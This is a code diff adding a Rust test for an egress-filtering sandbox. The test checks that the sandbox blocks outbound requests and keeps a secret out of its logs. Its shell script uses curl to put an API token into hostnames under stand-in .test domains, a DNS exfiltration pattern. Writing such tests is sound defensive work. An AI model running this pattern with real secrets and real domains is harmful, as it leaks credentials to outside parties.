@@ -132,3 +132,26 @@ fn each_decision_is_logged_once_as_text() {
         assert!(mitre.is_empty() || event.contains(&format!("mitre=\"{mitre}\"")), "{event}");
     }
 }
+
+/// The first time on a machine the rules are compiled, which takes longer than an agent to name something.
+#[test]
+fn what_is_named_before_there_is_a_scanner_is_kept_nowhere() {
+    need!("curl");
+    let policy = "egress: [{destination: web.test, ports: [443]}]\ndns: {hosts: {web.test: \"127.0.0.1\"}}\n\
+                  ssrf: {allow: [\"127.0.0.0/8\"]}";
+    let value = "3f9c1e7ab25d480691c7e2f4a8b3d605";
+    let script = "curl -sk --max-time 20 --connect-to $API_TOKEN.test:443:web.test:443 https://$API_TOKEN.test/
+                  curl -s --max-time 20 http://$API_TOKEN.denied.test/
+                  true";
+    let cache = tempfile::tempdir().expect("a folder");
+    let run = Sandbox::new(policy)
+        .env("CACHE_DIRECTORY", cache.path().to_str().expect("text"))
+        .env("PIPELOCK_LOG", "debug")
+        .env("API_TOKEN", value)
+        .run_ok(&["sh", "-c", script]);
+    let evidence = std::fs::read_to_string(run.evidence.folder.join("evidence.jsonl")).expect("evidence");
+    for reason in ["name_mismatch", "dns_denied"] {
+        assert!(evidence.contains(reason), "{reason}: {run}");
+    }
+    assert!(!evidence.contains(value) && !run.stderr.contains(value), "{run}");
+}
